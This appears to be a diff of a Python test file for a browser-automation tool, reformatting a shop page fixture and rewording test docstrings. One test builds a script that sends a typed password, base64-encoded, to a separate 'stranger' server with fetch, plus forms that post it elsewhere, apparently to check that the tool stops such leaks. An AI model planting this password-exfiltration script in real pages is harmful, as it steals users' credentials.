@@ -18,7 +18,8 @@ HTML = {"Content-Type": "text/html; charset=utf-8"}
 PASSWORD = "k3ttle & spoon"
 FORM = """<!doctype html><title>Log in</title><form method=post action=/in>
 <input id=user name=user><input id=pw type=password name=pw><button>Go</button></form>"""
-SHOP = """<!doctype html><title>Shop</title><button id=more>More</button><select id=size><option>Small<option>Large</select>
+SHOP = """<!doctype html><title>Shop</title><button id=more>More</button>
+<select id=size><option>Small<option>Large</select>
 <ul id=list><li>one</ul><p hidden id=no>hidden</p><script>
 more.onclick = () => setTimeout(() => list.insertAdjacentHTML("beforeend", "<li class=new>two</li>"), 50);
 size.onchange = () => list.insertAdjacentHTML("beforeend", `<li>${size.value}</li>`);
@@ -82,7 +83,7 @@ def test_a_step_that_cannot_be_done_is_named_with_what_the_page_says(chromium, s
 
 
 def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium, server):
-    """A form is sent, its redirect followed, its cookie sent along; the password stands in no other request."""
+    """The redirect of a form is followed with its cookie; the password is in no other request."""
 
     def enter(seen: Seen, wire: Wire) -> None:
         head = {"Location": "/mine", "Set-Cookie": "sid=1; Path=/; HttpOnly"}
@@ -114,9 +115,10 @@ def test_a_login_by_steps_keeps_its_cookie_and_leads_to_the_page_behind(chromium
 
 
 def test_after_a_secret_was_typed_nobody_else_is_asked(chromium):
-    """A script of a stranger cannot carry it off, not in a request, not in a form, not in an address of the page itself."""
+    """Nothing carries it off: no request of a script, no form, no address of the page."""
     with WebServer() as home, WebServer() as stranger:
-        script = f"""<script>pw.oninput = () => fetch("{stranger.url("/taken")}?" + btoa(pw.value), {{mode: "no-cors"}});</script>"""
+        taken = f"fetch('{stranger.url('/taken')}?' + btoa(pw.value), {{mode: 'no-cors'}})"
+        script = f"<script>pw.oninput = () => {taken};</script>"
         elsewhere = FORM.replace("/in", stranger.url("/in"))
         by_address = FORM.replace("method=post", "method=get")
         home.pages |= {
